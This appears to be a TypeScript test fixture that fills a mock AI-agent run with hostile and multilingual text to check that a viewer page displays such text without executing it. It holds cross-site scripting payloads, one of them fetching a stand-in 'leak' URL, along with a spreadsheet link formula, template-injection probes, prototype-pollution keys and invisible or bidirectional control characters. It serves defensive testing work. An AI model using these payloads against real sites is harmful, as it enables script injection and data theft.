/** Text that a page must show and never obey, and text in many scripts. */
import type { AgentStory } from '../agent/story.ts';
import { constant, deskStory, schemaOf } from './refund-desk.ts';
import { calls, script } from './variants.ts';

/** One line for each way a text can misbehave. */
const HOSTILE_LINES: readonly string[] = [
  '<script>document.title="taken"</script><img src=x onerror=alert(1)>',
  '"><svg/onload=fetch("https://example.invalid/leak")>',
  'javascript:alert(1) data:text/html,<b>x</b> [link](https://example.invalid) ![image](https://example.invalid/a.png)',
  '</textarea></style></title>--><!-- ]]> &lt;not markup&gt; &amp;',
  '=HYPERLINK("https://example.invalid";"open")',
  '{{constructor.constructor("return 1")()}} \u0024{7*7} <%= 7*7 %>',
  'right to left \u202eesrever\u202c and isolates \u2066abc\u2069 end',
  'zero width a\u200bb\u200cc\u200dd\ufeffe, soft\u00adhyphen, tag \u{e0041}\u{e0042}',
  'controls \u0000 \u0007 \u001b[31mred\u001b[0m \u009b0m, line separators \u2028 and \u2029',
  'lone high \ud83d and lone low \udc00 surrogates, replacement \ufffd',
  '__proto__ constructor toString hasOwnProperty',
];

/** The customer writes in many scripts. */
const MANY_SCRIPTS: readonly string[] = [
  'Guten Tag, größere Kessel führen Sie nicht? Straße, Maß, Œuvre, naïve, Ångström.',
  'Здравствуйте, где мои деньги за чайник?',
  'مرحبا، أين المبلغ 84.00 عن الطلب O-2207؟',
  'שלום, הקומקום חזר אליכם ב-17.',
  '注文番号 O-2207 の返金をお願いします。',
  '订单 O-2207 的退款还没有到。',
  '주문 O-2207 환불은 언제 되나요?',
  'नमस्ते, मेरा पैसा कहाँ है?',
  'สวัสดีค่ะ ขอเงินคืนค่ะ',
  'Tiếng Việt: tiền của tôi đâu? e\u0301 and \u00e9 are not the same bytes.',
  '👩‍👩‍👧‍👦 🧑🏽‍🚒 🇩🇪 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ✈️ 1️⃣',
];

/** A run in which every text that can be is hostile, in many scripts. */
export function hostile(): AgentStory {
  const ledger = schemaOf('read_<b>ledger</b>', 'Tool named to be shown, not run: <img src=x>', { page: 'Page' });
  return deskStory({
    runId: 'run-<b>harbour</b>-\u202e0318',
    model: 'harbour-<img src=x onerror=alert(1)>',
    provider: 'mock"><svg/onload=alert(1)>',
    userMessage: MANY_SCRIPTS.join('\n'),
    tools: () => [constant(ledger, HOSTILE_LINES.join('\n'))],
    pieces: () => [
      { text: HOSTILE_LINES[6] ?? '', source: 'steering', sourceId: '<i>bidi</i>' },
      { text: `One long line: ${'abcdefghij'.repeat(400)}`, source: 'fact' },
    ],
    seedExtra: { '<img src=x onerror=alert(1)>': 'a state key', toString: 'own key', constructor: ['own'] },
    answer: script(
      calls(HOSTILE_LINES[0] ?? '', 'call_"><b>x</b>_', [
        ledger.name,
        { page: '\u202e1', '<b>': HOSTILE_LINES[1] ?? '' },
      ]),
      calls(HOSTILE_LINES.slice(6, 10).join(' | '), 'y', [ledger.name, { page: '2', 7: 'numeric', a: null }]),
      { content: [...MANY_SCRIPTS, ...HOSTILE_LINES].join('\n\n') },
    ),
  });
}
